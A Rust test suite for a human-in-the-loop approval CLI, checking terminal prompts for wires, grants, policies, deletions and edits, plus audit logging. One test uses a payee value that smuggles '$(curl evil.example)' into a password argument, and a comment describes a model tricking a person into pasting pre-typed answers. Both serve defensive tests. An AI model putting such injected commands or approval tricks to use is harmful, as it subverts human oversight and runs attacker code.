//! A person at a terminal: a real pseudo-terminal, the card read from it and the answer typed.

use std::fs::{File, OpenOptions};
use std::io::{Read as _, Write as _};
use std::os::unix::process::ExitStatusExt as _;
use std::process::{Command, Stdio};

use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
use rustix::termios::{Winsize, tcsetwinsize};

use crate::console::Office;
use crate::house::{House, Ran, program, said};

/// A text to wait for, and the answer to type then.
pub(crate) type Say<'s> = (&'s str, &'s str);

/// Runs a program at a terminal; types each answer once its question appears.
pub(crate) fn at_terminal(command: &mut Command, talk: &[Say<'_>]) -> Ran {
    typed_ahead("", command, talk)
}

/// Does the same, with text that was typed before the program began.
fn typed_ahead(ahead: &str, command: &mut Command, talk: &[Say<'_>]) -> Ran {
    let (mut master, terminal) = pseudo_terminal();
    let held_open = terminal();
    master.write_all(ahead.as_bytes()).unwrap();
    // A session of its own with the terminal, as a person's shell has it.
    let mut session = Command::new("setsid");
    session.args(["--ctty", "--wait"]).arg(command.get_program()).args(command.get_args());
    for (name, value) in command.get_envs() {
        match value {
            Some(value) => session.env(name, value),
            None => session.env_remove(name),
        };
    }
    *command = session;
    let mut child =
        command.stdin(terminal()).stderr(terminal()).stdout(Stdio::piped()).spawn().unwrap();
    // The parent keeps no end of it open, so that reading ends with the child.
    let held = std::mem::replace(command, Command::new("true"));
    drop((held, held_open));
    let (mut shown, mut block) = (String::new(), [0; 4096]);
    // The place after the last question: the same question may be asked again.
    let mut answered = 0;
    let mut talk = talk.iter();
    let mut next = talk.next();
    // A terminal whose other end is closed cannot be read: that is its end.
    while let Ok(read @ 1..) = master.read(&mut block) {
        shown.push_str(&String::from_utf8_lossy(&block[..read]));
        while let Some((question, answer)) = next
            && let Some(at) = shown[answered..].find(question)
        {
            answered += at + question.len();
            master.write_all(answer.as_bytes()).unwrap();
            next = talk.next();
        }
    }
    let mut out = String::new();
    child.stdout.take().unwrap().read_to_string(&mut out).unwrap();
    assert!(next.is_none(), "{next:?} was not asked: {shown}");
    let ended = child.wait().unwrap();
    // As a shell counts a signal.
    let code = ended.code().or(ended.signal().map(|signal| 128 + signal)).unwrap();
    Ran { code, out, err: shown }
}

/// Returns a pseudo-terminal: the end that sees what is printed, and the opener of the other one.
fn pseudo_terminal() -> (File, impl Fn() -> File) {
    let master = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
    grantpt(&master).unwrap();
    unlockpt(&master).unwrap();
    let name = ptsname(&master, Vec::new()).unwrap().into_string().unwrap();
    let terminal = move || OpenOptions::new().read(true).write(true).open(&name).unwrap();
    (File::from(master), terminal)
}

/// Runs a program whose output is a terminal, and returns what is printed there.
fn printed(command: &mut Command) -> String {
    printed_on(&pseudo_terminal(), command)
}

/// Runs a program whose output and messages are on a terminal of this width, and returns what is
/// printed there.
pub(crate) fn printed_at(columns: u16, command: &mut Command) -> String {
    let terminal = pseudo_terminal();
    let size = Winsize { ws_row: 50, ws_col: columns, ws_xpixel: 0, ws_ypixel: 0 };
    tcsetwinsize(&terminal.0, size).unwrap();
    let messages = terminal.1();
    printed_on(&terminal, command.stderr(messages)).replace('\r', "")
}

fn printed_on(terminal: &(File, impl Fn() -> File), command: &mut Command) -> String {
    let (mut master, terminal) = (&terminal.0, &terminal.1);
    let mut child = command.stdin(Stdio::null()).stdout(terminal()).spawn().unwrap();
    // The parent keeps no end of it open, so that reading ends with the child.
    drop(std::mem::replace(command, Command::new("true")));
    let (mut shown, mut block) = (Vec::new(), [0; 4096]);
    while let Ok(read @ 1..) = master.read(&mut block) {
        shown.extend_from_slice(&block[..read]);
    }
    assert!(child.wait().unwrap().success());
    String::from_utf8(shown).unwrap()
}

#[test]
fn the_demo_has_colours_at_a_terminal_unless_they_are_not_wanted() {
    let colored = printed(program(&["demo", "audit"]).env_remove("NO_COLOR"));
    assert!(colored.contains("\x1b[31m") && colored.contains("\x1b[32m"), "{colored:?}");
    let plain = printed(program(&["demo", "audit"]).env("NO_COLOR", "1"));
    assert!(!plain.contains('\x1b') && plain.contains("LOST"), "{plain:?}");
}

pub(crate) fn at_store(house: &House, arguments: &[&str], talk: &[Say<'_>]) -> Ran {
    let db = said(&house.path("hitl.db"));
    at_terminal(&mut program(&[&["--db", &db], arguments].concat()), talk)
}

#[tokio::test(flavor = "multi_thread")]
async fn a_person_sees_the_card_and_says_yes_or_no() {
    let house = House::new().await;
    let call = house.wire("Initech", 120).await;
    for no in ["n\n", "\n", "maybe\n", "\u{4}"] {
        let ran = at_store(&house, &["approve", &call.id], &[("Approve this? [y/N]", no)]).ended(5);
        assert!(ran.err.contains("Wire 120 to \"Initech\"") && ran.out.is_empty(), "{ran:?}");
        assert_eq!(house.state(&call.id), "pending", "{no:?}");
    }
    let yes = at_store(&house, &["approve", &call.id], &[("[y/N]", "yes\n")]).ended(0);
    assert!(yes.out.contains("decided by tester"), "{yes:?}");
    assert_eq!(house.state(&call.id), "approved");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_question_is_not_preceded_by_the_command_that_asks_it() {
    let house = House::new().await;
    let call = house.wire("Initech", 120).await;
    let ran = at_store(&house, &["approve", &call.id], &[("Approve this? [y/N]", "n\n")]).ended(5);
    assert!(!ran.err.contains("hitl approve") && !ran.err.contains("hitl allow"), "{ran:?}");
    // At 80 columns no word of the card is broken, and neither is a suggested command.
    let db = said(&house.path("hitl.db"));
    let card = printed(&mut program(&["--db", &db, "show", &call.id])).replace('\r', "");
    assert!(card.contains("to approve:\n  hitl approve "), "{card}");
    assert!(card.contains("  hitl reject "), "{card}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_person_at_a_terminal_is_asked_how_a_parked_call_ended() {
    let question = "anything else changes nothing:";
    for (talk, code, state) in [
        (&[(question, "\n")][..], 5, "outcomeUnknown"),
        (&[(question, "y\n")], 5, "outcomeUnknown"),
        (&[(question, "f\n"), ("What did you see?", "\n")], 5, "outcomeUnknown"),
        (&[(question, "f\n"), ("What did you see?", "nothing arrived\n")], 0, "failed"),
        (&[(question, "d\n")], 0, "executed"),
    ] {
        let house = House::new().await;
        let id = crate::hints::park(&house).await;
        let ran = at_store(&house, &["resolve", &id], talk).ended(code);
        assert!(ran.err.contains("d  it took effect"), "{ran:?}");
        assert_eq!(house.state(&id), state, "{talk:?}");
    }
}

/// A model may make a person paste its command and an answer at once.
#[tokio::test(flavor = "multi_thread")]
async fn invariant_2_what_was_typed_before_the_card_is_there_answers_nothing() {
    let house = House::new().await;
    let call = house.wire("Initech", 120).await;
    let db = said(&house.path("hitl.db"));
    let mut approve = program(&["--db", &db, "approve", &call.id]);
    typed_ahead("y\ny\ny\n", &mut approve, &[("Approve this? [y/N]", "n\n")]).ended(5);
    assert_eq!(house.state(&call.id), "pending");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_person_reads_the_rule_before_they_give_a_grant() {
    let office = Office::new().await;
    let house = &office.house;
    let call = house.wire("Initech", 120).await;
    let allow = ["allow", &call.id, "--uses", "2"];
    let question = "Give this grant? [y/N]";
    for no in ["n\n", "\n", "\u{4}"] {
        let ran = at_store(house, &allow, &[(question, no)]).ended(5);
        assert!(ran.err.contains("Wire 120 to \"Initech\""), "{ran:?}");
        assert!(ran.err.contains("at most 2 times") && ran.out.is_empty(), "{ran:?}");
    }
    let ran = at_terminal(&mut office.program("ann-secret-token", &allow), &[(question, "no\n")]);
    assert!(ran.ended(5).err.contains("at most 2 times"));
    assert_eq!(house.state(&call.id), "pending");
    let ran = at_terminal(&mut office.program("ann-secret-token", &allow), &[(question, "y\n")]);
    assert!(ran.ended(0).out.contains("given by ann"));
    assert_eq!(house.hitl(&["grants", "--json"]).ended(0).json().len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_person_was_shown_is_in_the_audit_before_what_they_decided() {
    let house = House::new().await;
    let call = house.wire("Initech", 120).await;
    let folder = house.path("logs");
    std::fs::create_dir(&folder).unwrap();
    let approve = ["approve", &call.id, "--as", "bob", "--audit", folder.to_str().unwrap()];
    at_store(&house, &approve, &[("[y/N]", "n\n")]).ended(5);
    at_store(&house, &approve, &[("[y/N]", "y\n")]).ended(0);
    let log = std::fs::read_to_string(folder.join("audit-1.jsonl")).unwrap();
    let events: Vec<serde_json::Value> = log
        .lines()
        .map(|line| serde_json::from_str::<serde_json::Value>(line).unwrap()["event"].clone())
        .filter(|event| event["call"] == call.id.as_str())
        .collect();
    let told: Vec<_> = events.iter().map(|e| (e["event"].as_str(), e["by"].as_str())).collect();
    let by = Some("bob");
    assert_eq!(told, [(Some("shown"), by), (Some("shown"), by), (Some("decided"), by)]);
}

#[test]
fn a_person_at_a_terminal_accepts_a_policy_without_a_store() {
    let folder = tempfile::tempdir().unwrap();
    let path = said(&folder.path().join("policy.toml"));
    let rules =
        "schema = 1\nversion = \"7\"\n[[rule]]\nname = \"f\"\neffect = \"deny\"\ntool = \"x\"\n";
    std::fs::write(&path, rules).unwrap();
    let accept = |talk: &[Say<'_>]| at_terminal(&mut program(&["policy", "accept", &path]), talk);
    let question = "Accept this policy? [y/N]";
    // This also holds for the first load: the host may not trust it.
    accept(&[(question, "n\n")]).ended(5);
    accept(&[(question, "y\n")]).ended(0);
    accept(&[]).ended(0);
    std::fs::write(&path, rules.replace("deny", "quick").replace('7', "8")).unwrap();
    accept(&[(question, "n\n")]).ended(5);
    assert!(accept(&[(question, "y\n")]).ended(0).out.contains("is accepted by tester"));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_person_types_the_name_of_what_is_deleted() {
    let house = House::new().await;
    let call = house.drop_project("apollo").await;
    let question = "type its name (apollo):";
    at_store(&house, &["approve", &call.id], &[(question, "Apollo\n")]).ended(5);
    at_store(&house, &["approve", &call.id], &[(question, "yes\n")]).ended(5);
    assert_eq!(house.state(&call.id), "pending");
    at_store(&house, &["approve", &call.id], &[(question, "apollo\n")]).ended(0);
    assert_eq!(house.state(&call.id), "approved");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_person_edits_in_their_own_editor_and_others_see_them_look() {
    let office = Office::new().await;
    let call = office.house.wire("Initech", 9000).await;
    let edit = |editor: &str, talk: &[Say<'_>]| {
        at_terminal(
            office.program("ann-secret-token", &["edit", &call.id]).env("EDITOR", editor),
            talk,
        )
    };
    edit("true", &[]).ended(5);
    edit("false", &[]).ended(1);
    edit("echo not JSON >", &[]).ended(5);
    let cheaper = "sed -i s/9000/90/";
    edit(cheaper, &[("with these changes? [y/N]", "n\n")]).ended(5);
    assert_eq!(office.house.state(&call.id), "pending");
    let ran = edit(cheaper, &[("with these changes? [y/N]", "y\n")]).ended(0);
    assert!(ran.err.contains(r#"{"amount":90}"#), "{ran:?}");
    let hitl::Outcome::Executed(output) = call.ticket.wait().await.unwrap() else {
        panic!("it ran")
    };
    assert_eq!(output.json(), Some(r#""wired 90 to Initech""#));
    let log = std::fs::read_to_string(office.house.path("audit.jsonl")).unwrap();
    assert!(log.contains(r#""event":"shown""#), "{log}");
}

#[tokio::test(flavor = "multi_thread")]
async fn invariant_9b_one_key_shows_a_person_what_is_masked() {
    let office = Office::new().await;
    let payee = "mysql --password=\"aB3dE6gH$(curl evil.example)\"";
    let question = "u to uncover what is masked]";
    let folder = office.house.path("logs");
    std::fs::create_dir(&folder).unwrap();
    let call = office.house.wire(payee, 120).await;
    let approve = ["approve", &call.id, "--audit", folder.to_str().unwrap()];
    let ran = at_store(&office.house, &approve, &[(question, "u\n"), ("curl evil.example", "n\n")]);
    assert!(ran.ended(5).out.is_empty());
    let ran =
        at_store(&office.house, &approve[..2], &[(question, "u\n"), ("--audit FOLDER", "y\n")]);
    assert!(!ran.ended(0).err.contains("curl"), "nothing is uncovered that is not audited");
    let call = office.house.wire(payee, 121).await;
    let mut approve = office.program("ann-secret-token", &["approve", &call.id]);
    at_terminal(&mut approve, &[(question, "u\n"), ("curl evil.example", "y\n")]).ended(0);
    let log = std::fs::read_to_string(office.house.path("audit.jsonl")).unwrap();
    assert!(log.contains(r#""event":"uncovered""#) && !log.contains("curl"), "{log}");
}
